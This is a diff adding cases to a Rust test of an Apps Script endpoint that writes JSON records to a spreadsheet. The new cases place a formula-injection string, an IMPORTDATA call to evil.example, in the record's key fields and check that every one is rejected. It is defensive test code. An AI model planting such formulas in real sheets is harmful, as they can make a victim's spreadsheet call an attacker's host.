@@ -201,15 +201,22 @@ fn apps_script_gets_a_record_in_a_form_or_as_text_and_writes_it_once() {
          const body = await request.text();
          [body, body, '{{', '{{}}'].forEach(post);
          console.log(script.doPost({{ parameter: {{ record: body }}, postData: {{ contents: 'record=%7B' }} }}));
-         console.log(rows[0][1]);",
+         console.log(rows[0][1]);
+         const evil = '=IMPORTDATA(\"https://evil.example\")';
+         [{{ id: evil }}, {{ id: [evil] }}, {{ revision: evil }}].forEach((change) =>
+           post(JSON.stringify({{ ...JSON.parse(body), ...change }})));
+         console.log(rows.length);",
         full()
     ));
     let lines: Vec<_> = said.lines().collect();
-    assert_eq!(lines.len(), 7, "{said}");
+    assert_eq!(lines.len(), 11, "{said}");
     assert_eq!(lines[0], "text/plain;charset=UTF-8");
     assert_eq!(lines[1], "{\"stored\":true,\"duplicate\":false}");
     assert_eq!(lines[2], "{\"stored\":true,\"duplicate\":true}");
     assert!(lines[3].contains("is not JSON") && lines[4].contains("is not a record"), "{said}");
     assert_eq!(lines[5], "{\"stored\":true,\"duplicate\":true}");
     assert_eq!(serde_json::from_str::<Value>(lines[6]).unwrap(), full());
+    // A formula in the place of a key would be run by the sheet.
+    assert!(lines[7..10].iter().all(|line| line.contains("is not a record")), "{said}");
+    assert_eq!(lines[10], "1");
 }
